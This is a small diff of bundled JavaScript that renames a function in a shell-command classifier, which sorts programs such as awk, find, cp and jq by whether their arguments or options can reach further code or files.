 		function isOptionValue(before) {
@@ -770,7 +772,7 @@ export const modules = {
 			return (before[0] === "commit" || before[0] === "tag") && (last === "-m" || last === "--message");
 		}
 		let operandsRun = (0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_2__.y)("awk bsh bunx coproc docker exec find gawk gmake java just ld.so make mawk nawk npx pnpx podman r rake sed uvx"), optionsReach = (0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_2__.y)("7z 7za babel base64 black convert cp cpp ctest date diff3 difft dot esbuild exiftool file fmt ghc gold gs hg iconv jq ln lz4 magick mongosh mv mypy nasm nm nox objdump pandoc pigz ptx ranlib readelf rollup rspec rubocop ruff sdiff shuf strip svn tac tree uniq xetex xxd yq zstd");
-		function reachOf(program) {
+		function findReach(program) {
 			let names = (0, _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.eZ)(program);
 			return names.some((each) => operandsRun.has(each)) || (0, _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.v7)(program) ? "by-any-argument" : names.some((each) => optionsReach.has(each)) || (0, _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.pw)(program) ? "by-options" : "no-further";
 		}
